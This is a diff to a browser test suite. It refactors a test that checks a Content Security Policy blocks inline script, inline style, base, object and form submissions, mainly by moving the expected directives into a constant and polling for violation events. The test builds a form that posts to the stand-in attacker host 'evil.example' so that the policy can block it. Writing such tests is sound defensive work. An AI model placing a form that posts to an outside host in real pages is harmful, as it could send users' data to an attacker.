@@ -73,6 +73,21 @@ test('53. Back button after logout, bfcache, "duplicate tab", view-source, Save 
   await context.close()
 })
 
+/** The policy's directives that stop something in the test below. */
+const DIRECTIVES = [
+  'script-src-elem',
+  'script-src-attr',
+  'style-src-elem',
+  'style-src-attr',
+  'base-uri',
+  'object-src',
+  'frame-src',
+  'img-src',
+  'media-src',
+  'connect-src',
+  'form-action',
+]
+
 test('60. CSP: inline script, inline style, base, object, form-action to evil -> blocked', async () => {
   const { context, page } = await openWindow(browser, server.baseUrl)
   const elsewhere: string[] = []
@@ -85,7 +100,7 @@ test('60. CSP: inline script, inline style, base, object, form-action to evil ->
     if (request.failure()?.errorText === 'csp') stoppedByPolicy.push(request.url())
   })
   await page.goto('/sign-in')
-  const stopped = await page.evaluate(async () => {
+  const stopped = await page.evaluate(async (expected) => {
     const violations: string[] = []
     document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
     const add = (name: string, attributes: Record<string, string>, text = '') => {
@@ -117,7 +132,10 @@ test('60. CSP: inline script, inline style, base, object, form-action to evil ->
     }
     const form = add('form', { action: 'https://evil.example/take', method: 'post' }) as HTMLFormElement
     form.submit()
-    await new Promise((done) => setTimeout(done, 300))
+    // Each is told when the browser comes to it.
+    const end = Date.now() + 10_000
+    while (!expected.every((each) => violations.includes(each)) && Date.now() < end)
+      await new Promise((done) => setTimeout(done, 50))
     return {
       violations: [...new Set(violations)].sort(),
       title: document.title,
@@ -125,20 +143,8 @@ test('60. CSP: inline script, inline style, base, object, form-action to evil ->
       colour: getComputedStyle(painted).color,
       shown: getComputedStyle(document.body).display,
     }
-  })
-  for (const directive of [
-    'script-src-elem',
-    'script-src-attr',
-    'style-src-elem',
-    'style-src-attr',
-    'base-uri',
-    'object-src',
-    'frame-src',
-    'img-src',
-    'media-src',
-    'connect-src',
-    'form-action',
-  ])
+  }, DIRECTIVES)
+  for (const directive of DIRECTIVES)
     assert.ok(stopped.violations.includes(directive), `${directive} in ${stopped.violations.join()}`)
   assert.doesNotMatch(stopped.title, /run/)
   assert.equal(stopped.base, page.url())
